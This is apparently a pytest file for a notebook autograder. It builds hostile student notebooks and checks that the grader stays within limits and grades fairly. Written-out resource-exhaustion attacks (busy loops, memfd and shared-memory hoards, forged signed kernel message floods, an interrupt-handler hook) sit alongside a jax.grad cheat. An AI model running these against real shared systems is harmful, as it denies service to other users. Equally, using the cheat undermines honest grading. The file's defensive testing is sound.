    assert len(heavier) == 1 and "characters of code and text" in heavier[0]["message"], heavier
    for name in ("a_honest", "z_honest", "z_honest_zh"):
        assert points(graded, name) == EXERCISES and graded["rows"][name]["notes"] == [], name


def test_comm_messages_and_their_buffers_count_against_the_output_limits(graded):
    """Issue 35, section 2: 800 MB of widget buffers; the grader stays under 600 MB. Past the
    output limits they were dropped (tests/test_cell_outputs.py keeps that, at 24 MB); since
    round eleven every byte read counts, and past 256 MB a notebook is one error row."""
    assert graded["peak"] < 600 * 2**20, f"the grader grew to {graded['peak'] / 2**20:.0f} MB"
    rows = graded["rows"]["x_comm_buffers"]["rows"]
    assert len(rows) == 1 and rows[0]["status"] == "error", rows
    assert "MB of messages, and the grader reads at most 256 MB a notebook" in rows[0]["message"]


# Issue 35, section 2: each sandbox gets its share of the machine, and no more. Bounded forms of
# the attacks (100 busy loops for minutes, 4 GB held under a 1 GB cap), graded in this
# process so that the fallback (no cgroup) can be tried on a machine that has them.
LOOPS, BUSY = 20, 20  # busy loops, each in a session of its own if it may; for seconds
BUSY_LOOPS = attack(first=(
    f"import subprocess, sys, time\nloop = 'import os, time\\ntry:\\n    os.setsid()\\n"
    f"except OSError:\\n    pass\\nend = time.time() + {BUSY}\\nwhile time.time() < end:\\n"
    f"    pass'\nfor _ in range({LOOPS}):\n"
    f"    subprocess.Popen([sys.executable, '-S', '-c', loop], start_new_session=False)\n"
    f"time.sleep({BUSY})"))
SHARE_LIMITS = dict(memory=768 * 2**20, cell_timeout=60, timeout=150)
HOARD = 2**30  # bytes in memory files (128 MB each: a file is capped), then in System V shm
MEMORY_HOARD = attack(first=(
    f"import ctypes, os, time\nheld, files = 0, []\ntry:\n"
    f"    for _ in range({HOARD // 2**27}):\n        files.append(os.memfd_create('hoard'))\n"
    f"        for _ in range(8):\n            held += os.write(files[-1], bytes(2**24))\n"
    f"except OSError:\n    pass\n"
    f"libc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n"
    f"segment = libc.shmget(0, {HOARD}, 0o1600)\nif segment >= 0:\n"
    f"    address = libc.shmat(segment, None, 0)\n"
    f"    ctypes.memset(ctypes.c_void_p(address), 1, {HOARD})\n    held += {HOARD}\n"
    f"time.sleep(2)\nif held > {SHARE_LIMITS['memory']}:\n"
    f"    raise RuntimeError(f'held {{held >> 20}} MB past the cap')"))


@pytest.fixture(scope="module", params=["cgroup", "fallback"])
def shares(request, tmp_path_factory):
    """The honest notebook graded alone, then third in a class of four, two at a time: beside
    the busy loops, which run while it does, and before the memory hoard."""
    from nn_from_scratch import cgroups
    from nn_from_scratch.grade.batch import grade_paths
    from nn_from_scratch.notebook_runner import Limits

    if request.param == "cgroup" and cgroups.hierarchy() is None:
        pytest.skip("no cgroup this process may make")
    klass = tmp_path_factory.mktemp(f"shares-{request.param}")
    for name, nb in (("a_busy_loops", BUSY_LOOPS), ("b_honest", SOLUTION),
                     ("c_honest", SOLUTION), ("d_memory_hoard", MEMORY_HOARD)):
        nbformat.write(nb, klass / f"{name}.ipynb")
    limits = Limits(**SHARE_LIMITS)
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "fallback":
            patch.setattr(cgroups, "hierarchy", lambda root=None: None)
        alone = grade_paths([klass / "c_honest.ipynb"], limits)[0]
        together = grade_paths(sorted(klass.glob("*.ipynb")), limits, jobs=2)
    return {"mode": request.param, "alone": alone,
            "rows": {Path(g.notebook).stem: g for g in together}}


def _run_seconds(graded):
    return graded.seconds["lesson"] + graded.seconds["checks"]


def test_busy_loops_in_sessions_of_their_own_leave_a_classmate_its_share(shares):
    honest, alone = shares["rows"]["c_honest"], shares["alone"]
    assert sum(row.points for row in honest.rows) == EXERCISES, honest.rows
    assert honest.notes == ()
    # Its time beside the loops is a figure, not an assertion (these machines are noisy, and the
    # suite's other worker runs beside it): benchmarks/grade_share.py measures it side by side.
    ratio = _run_seconds(honest) / _run_seconds(alone)
    print(f"{shares['mode']}: the classmate ran in {_run_seconds(honest):.1f} s beside "
          f"{LOOPS} busy loops, {_run_seconds(alone):.1f} s alone ({ratio:.2f}x)")


def test_memory_files_and_shared_memory_count_against_the_cap(shares):
    hoard = shares["rows"]["d_memory_hoard"]
    statuses_ = [row.status for row in hoard.rows]
    messages = " ".join(row.message for row in hoard.rows)
    assert "past the cap" not in messages, hoard.rows  # it never held them unnoticed
    if shares["mode"] == "cgroup":  # held, counted, and stopped at the cap
        assert "out of memory" in statuses_, hoard.rows
    else:  # refused: memfd_create and shmget say EPERM, and nothing is held
        assert refused_or_not_done(hoard.rows), hoard.rows
    assert sum(row.points for row in shares["rows"]["b_honest"].rows) == EXERCISES


def test_the_sandboxes_leave_no_cgroup_behind(shares):
    from nn_from_scratch import cgroups

    where = cgroups.hierarchy()
    if where is None:
        pytest.skip("no cgroup this process may make")
    mine = [folder for parent in where.parents.values()
            for folder in parent.glob(f"{cgroups.PREFIX}-{os.getpid()}-*")]
    assert mine == []


# Messages a kernel sends that cost the grader more to parse than they cost to send, each
# signed with the kernel's own key and sent raw (``content`` as bytes is sent as it is)
RAW_SEND = "_k = get_ipython().kernel\n"
MESSAGE_FLOODS = {
    # 40 messages just under 16 MB of `{},`: 5 million dicts each; the grader grew to 1.2 GB
    # and the honest classmate took 46 s instead of 8
    "a_million_dicts": attack(first=RAW_SEND + (
        "_bomb = b'{\"name\": \"stdout\", \"text\": \"hi\", \"x\": [' + b'{},' * 5_000_000 "
        "+ b'{}]}'\nfor _ in range(40):\n"
        "    _k.session.send(_k.iopub_socket, 'stream', content=_bomb, parent=_k.get_parent())")),
    # 300 messages each just under the cap of one message: the classmate took 17 s, not 6
    "b_many_under_the_cap": attack(first=RAW_SEND + (
        "_bomb = b'{\"name\": \"stdout\", \"text\": \"hi\", \"x\": [' + b'{},' * 330_000 "
        "+ b'{}]}'\nfor _ in range(300):\n"
        "    _k.session.send(_k.iopub_socket, 'stream', content=_bomb, parent=_k.get_parent())")),
    # a message nested 200,000 deep: RecursionError in the grader's JSON parser
    "c_deep_message": attack(first=RAW_SEND + (
        "_deep = b'{\"name\": \"stdout\", \"text\": \"hi\", \"x\": ' + b'[' * 200_000 "
        "+ b']' * 200_000 + b'}'\n"
        "_k.session.send(_k.iopub_socket, 'stream', content=_deep, parent=_k.get_parent())")),
    # a million tiny messages (red team, round four: 26 CPU-s of the grader's, the classmate
    # at 1.5-1.9x its time); 600,000 here: past a cell's 1,000 the grader reads them at its own
    # pace (cell_outputs.PACE) and ZeroMQ drops what it has no room for, until the 10,000
    # parts it takes from a notebook (100,000 before round eighteen: it then went on, its
    # output cut); before the pace, it read them as fast as they came
    # a number of 6,000 digits, past what Python's JSON reads (red team, round seventeen:
    # the row said only "could not be run (ValueError...)")
    "c_number_too_long": attack(first=RAW_SEND + (
        "_long = b'{\"name\": \"stdout\", \"text\": \"hi\", \"n\": ' + b'9' * 6000 + b'}'\n"
        "_k.session.send(_k.iopub_socket, 'stream', content=_long, parent=_k.get_parent())")),
    # red team, round eighteen: 90,000 tiny displays from a thread an earlier cell started,
    # read as they come (the pace is a cell's own); the classmate took 1.7-1.8x its time alone
    # until a notebook's message parts were refused past 10,000, not 100,000
    "e_thread_flood": attack(first=(
        "import threading\nfrom IPython.display import display\n\ndef _flood():\n"
        "    for _ in range(90_000):\n        display({'text/plain': '.'}, raw=True)\n\n"
        "threading.Thread(target=_flood, daemon=True).start()"),
        every="import time\ntime.sleep(2)"),  # (later cells, during which the flood is read)
    "e_tiny_messages": attack(first=RAW_SEND + (
        "for _ in range(600_000):\n"
        "    _k.session.send(_k.iopub_socket, 'stream', content={'name': 'stdout', 'text': '.'},"
        " parent=_k.get_parent())")),
    # 03.5's grad as jax.grad over f: no Value, no backward, and it passed every function
    # the check tried (each written for Values and JAX numbers alike)
    "d_grad_by_jax": replaced(*[cell.source for cell in exercise_cells(SOLUTION)][:4], (
        "def grad(f):\n    def grad_f(*numbers):\n"
        "        out = jax.grad(f, argnums=tuple(range(len(numbers))))(*map(float, numbers))\n"
        "        return tuple(float(g) for g in out)\n    return grad_f\n")),
    "z_honest": SOLUTION,
}
# Red team, round eleven: messages that cost the loop every kernel shares by their bytes, not
# their number (30 MB each, signed once and sent again zero-copy, 50 a second): the classmate
# took 18x its time beside them sent from a thread under another cell's name, 21x under the
# cell's own (the pace counts messages), 15x sent on the requests' channel at each of the
# grader's questions, with the attacker's own solutions kept (5/5). Smaller here (8 MB), so
# that the grader's peak stays measurable; a message over 32 MB in all is refused at once.
SIGNED = RAW_SEND + (
    "import json as _j, hmac as _hm, hashlib as _hl, threading as _t, time as _tm\n"
    "_pad = 'x' * (4 * 2**20)\n"
    "def _header(kind):\n"
    "    return _j.dumps({'msg_id': 'f', 'msg_type': kind, 'username': 'u', 'session': 's',\n"
    "                     'date': '2020-01-01T00:00:00.000000Z', 'version': '5.3'}).encode()\n"
    "def _sender(kind, parent):\n"
    "    head, meta = _header(kind), _j.dumps({'pad': _pad}).encode()\n"
    "    base = _hm.new(_k.session.key, digestmod=_hl.sha256)\n"
    "    for part in (head, parent, meta):\n"
    "        base.update(part)\n"
    "    def send(socket, ident, content):\n"
    "        signature = base.copy()\n"
    "        signature.update(content)\n"
    "        socket.send_multipart(ident + [b'<IDS|MSG>', signature.hexdigest().encode(), head,\n"
    "                              parent, meta, content], copy=False)\n"
    "    return send\n"
    "def _flood(send, socket, ident, seconds):\n"
    "    end, i = _tm.time() + seconds, 0\n"
    "    while _tm.time() < end:\n"
    "        send(socket, ident, ('{\"name\": \"stdout\", \"text\": \"%d\"}' % i).encode())\n"
    "        i += 1\n"
    "        _tm.sleep(0.02)\n")
ROUND_ELEVEN = {
    "f_heavy_from_a_thread": attack(first=SIGNED + (
        "_send = _sender('stream', _j.dumps({'msg_id': 'not-this-cell', 'pad': _pad}).encode())\n"
        "_t.Thread(target=_flood, args=(_send, _k.iopub_socket, [b'stream'], 20),"
        " daemon=True).start()\n_tm.sleep(22)")),
    "g_heavy_own_cell": attack(first=SIGNED + (
        "_send = _sender('comm_msg', _j.dumps(dict(_k.get_parent('shell')['header']),"
        " default=str).encode())\n_flood(_send, _k.iopub_socket, [b'comm'], 20)")),
    "h_heavy_on_the_requests_channel": copy.deepcopy(SOLUTION),
    # a message of 3 parts of 15 MB (each under ZeroMQ's cap of a part): 45 MB in all
    "i_many_parts": attack(first=RAW_SEND + (
        "_buf = b'x' * (15 * 2**20)\n"
        "_k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': '0'},"
        " parent={'header': {'msg_id': 'not-this-cell'}}, buffers=[memoryview(_buf)] * 3)\n"
        "import time\ntime.sleep(5)")),
}
exercise_cells(ROUND_ELEVEN["h_heavy_on_the_requests_channel"])[-1].source += "\n" + SIGNED + (
    "_send = _sender('execute_reply', _j.dumps({'msg_id': 'not-your-request', 'pad': _pad})"
    ".encode())\n_sent = []\n_real_answers = _nn_from_scratch_answers\n"
    "def _nn_from_scratch_answers(question, _real=_real_answers):\n"
    "    socket = (_k.shell_channel_thread.manager.get_subshell_to_shell_channel_socket(None)\n"
    "              if getattr(_k, '_supports_kernel_subshells', False) else _k.shell_stream)\n"
    "    ident = _k._parent_ident['shell']\n"
    "    ident = list(ident) if isinstance(ident, (list, tuple)) else [ident]\n"
    "    for _ in range(5):\n"
    "        _sent.append(1)\n"
    "        _send(socket, ident, ('{\"status\": \"ok\", \"i\": %d}' % len(_sent)).encode())\n"
    "    return _real(question)\n")
MESSAGE_FLOODS.update(ROUND_ELEVEN)
# Issue 35, left by round eleven: ZeroMQ caps a message's parts, not their number, and takes in
# a whole message before the first part can be read; three messages of 60 parts of 15 MB (2.7 GB,
# one buffer sent again) took the grader to 3.0 GB. Now a relay of its own takes them in.
PARTS_PAST_THE_CAPS = {
    "j_parts_past_the_memory": attack(first=RAW_SEND + (
        "_buf = b'x' * (15 * 2**20)\nfor _ in range(3):\n"
        "    _k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': '0'},"
        " parent={'header': {'msg_id': 'not-this-cell'}}, buffers=[memoryview(_buf)] * 60)\n"
        "import time\ntime.sleep(5)")),
    "k_thousands_of_parts": attack(first=RAW_SEND + (
        "_k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': '0'},"
        " parent={'header': {'msg_id': 'not-this-cell'}}, buffers=[b'x'] * 5_000)\n"
        "import time\ntime.sleep(5)")),
    # Red team, round thirteen: the grader's interrupt (the cell sleeps past --cell-timeout)
    # answered with 80 messages of 32 MB on the control channel, under the relay's caps then:
    # the grader's control socket, which nothing reads, held them (2.3 GB)
    "l_interrupt_answered_by_a_flood": attack(first=RAW_SEND + (
        "import zmq, time\n_orig = _k.control_handlers['interrupt_request']\n"
        "_BUF = b'x' * (16 * 2**20 - 4096)\n"
        "async def _hook(stream, ident, parent):\n"
        "    await _orig(stream, ident, parent)\n"
        "    for _ in range(80):\n"
        "        stream.socket.send_multipart(list(ident) + [b'<IDS|MSG>', b'', b'{}', b'{}',"
        " b'{}', b'{}', _BUF, _BUF], copy=False)\n"
        "_k.control_handlers['interrupt_request'] = _hook\ntime.sleep(1000)")),
}
MESSAGE_FLOODS.update(PARTS_PAST_THE_CAPS)


@pytest.fixture(scope="module")
def floods(tmp_path_factory):
    """The class above graded by the command line, two at a time, the grader's memory watched."""
    tmp = tmp_path_factory.mktemp("floods")
    klass, results = tmp / "class", tmp / "results"
    klass.mkdir()
    results.mkdir()
    for name, nb in MESSAGE_FLOODS.items():
        nbformat.write(nb, klass / f"{name}.ipynb")
    command = [sys.executable, "-m", "nn_from_scratch", "grade", str(klass), "--jobs", "2",
               "--memory", "1G", "--cell-timeout", "30", "--timeout", "120",
               "--json-file", str(results / "part-1.json")]
    env = {**os.environ, "IPYTHONDIR": str(tmp / "ipython"), "TMPDIR": str(tmp)}
    _, _, stderr, peak = grade_watching_memory(command, env, tmp, timeout=600)
    results_json = json.loads((results / "part-1.json").read_text())
    return {"stderr": stderr, "peak": peak,
            "rows": {Path(n["notebook"]).stem: n for n in results_json["notebooks"]}}


def test_messages_of_millions_of_values_are_refused_unread(floods):
    """Counted from their bytes before they are parsed: one message past 1,000,000 values, or
    a notebook's past 20,000,000, ends that notebook with one row; the grader stays small and
    the classmate keeps its points, with nothing to note."""
    assert floods["peak"] < 600 * 2**20, f"the grader grew to {floods['peak'] / 2**20:.0f} MB"
    for name, says in (("a_million_dicts", "the grader reads at most 1,000,000"),
                       ("b_many_under_the_cap", "a notebook: the rest refused unread"),
                       ("c_deep_message", "nested too deep to read"),
                       ("c_number_too_long", "not JSON the grader reads"),
                       ("e_thread_flood", "the kernel sent more than 10,000 messages")):
        rows = floods["rows"][name]["rows"]
        assert len(rows) == 1 and rows[0]["status"] == "error", (name, rows)
        assert says in rows[0]["message"], (name, rows[0]["message"])
    heavy = floods["rows"]["h_heavy_on_the_requests_channel"]["rows"]  # (round thirteen:) its
    # extra replies wait in its kernel, unread (the relay passes one reply per question), and
    # the question they were sent at goes unanswered: no point for 03.5, nothing held the class
    assert [row["points"] for row in heavy] == [1, 1, 1, 1, 0], heavy
    for name in set(ROUND_ELEVEN) - {"h_heavy_on_the_requests_channel"}:
        rows = floods["rows"][name]["rows"]
        assert len(rows) == 1 and rows[0]["status"] == "error", (name, rows)
        assert re.search(r"MB (of messages|in all its parts), and the grader reads at most",
                         rows[0]["message"]), (name, rows[0]["message"])
    for name, says in (("j_parts_past_the_memory", "the kernel sent more at once than the "
                                                  "grader takes in (at most 384 MB"),
                       ("k_thousands_of_parts", "a message of 5,006 parts, and the grader reads "
                                                "at most 1,000"),
                       ("l_interrupt_answered_by_a_flood", "32 MB on its control channel, "
                                                           "where the grader reads at most 1 MB")):
        rows = floods["rows"][name]["rows"]
        assert len(rows) == 1 and rows[0]["status"] == "error", (name, rows)
        assert says in rows[0]["message"], (name, rows[0]["message"])
    tiny = floods["rows"]["e_tiny_messages"]["rows"]  # paced, then past the notebook's cap
    assert len(tiny) == 1 and "more than 10,000 messages" in tiny[0]["message"], tiny
    honest = floods["rows"]["z_honest"]
    assert sum(row["points"] for row in honest["rows"]) == EXERCISES, honest["rows"]
    assert honest["notes"] == [], honest["notes"]


def test_a_grad_handed_to_jax_grad_earns_nothing(floods):
    """03.5 asks for reverse mode over Values; jax.grad over f passed every case. |x| * y
    reads x.data, which a Value has and JAX's number has not. (A class that gives JAX's
    numbers a .data still passes: see the README's "What remains possible".)"""
    rows = floods["rows"]["d_grad_by_jax"]["rows"]
    assert [row["points"] for row in rows] == [1, 1, 1, 1, 0], rows
    honest = floods["rows"]["z_honest"]["rows"]
    assert sum(row["points"] for row in honest) == EXERCISES, honest


def test_a_notebook_failed_by_the_ast_race_outside_the_parser_is_prepared_again(
        tmp_path, monkeypatch):
    """The race above also struck where the grader's lock cannot reach (a student's walk saw a
    right notebook "could not be prepared (SystemError: AST constructor recursion depth
    mismatch ...)" at --jobs 2, and 0 points): preparing is tried again, and only that error
    is."""
    from nn_from_scratch.grade import batch

    nbformat.write(SOLUTION, tmp_path / "honest.ipynb")
    real, calls = batch.prepare_apart, []

    def raced(*args):
        calls.append(args)
        if len(calls) < 3:
            raise SystemError("AST constructor recursion depth mismatch (before=36, after=31)")
        return real(*args)

    monkeypatch.setattr(batch, "prepare_apart", raced)
    (graded,) = batch.grade_paths([tmp_path / "honest.ipynb"], sandbox=False)
    assert len(calls) == 3 and sum(row.points for row in graded.rows) == EXERCISES, graded.rows
    monkeypatch.setattr(batch, "prepare_apart", lambda *args: (_ for _ in ()).throw(
        SystemError("something else")))
    (broken,) = batch.grade_paths([tmp_path / "honest.ipynb"], sandbox=False)
    assert "could not be prepared (SystemError: something else)" in broken.rows[0].message


def test_python_is_parsed_one_thread_at_a_time():
    """Notebooks are prepared in threads; CPython 3.11.7's ``ast.parse`` keeps its nesting
    count per interpreter, and two at once (while the collector runs finalizers, which
    switch threads) raised ``SystemError: AST constructor recursion depth mismatch``: a
    notebook "could not be prepared" beside another at ``--jobs 2``."""
    from nn_from_scratch.parsing import parse

    source = "\n".join(f"x{i} = [{i}, ({i}, {{'a': {i}}})]" for i in range(20_000))
    errors = []

    class Finalized:
        def __del__(self):
            sum(range(50))

    def parsing():
        for _ in range(10):
            try:
                parse(source)
            except SystemError as err:
                errors.append(str(err))

    def garbage():
        for _ in range(150_000):
            item = Finalized()
            item.cycle = item  # a cycle: only the collector frees it, running __del__

    threads = [threading.Thread(target=parsing) for _ in range(2)] + [
        threading.Thread(target=garbage)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
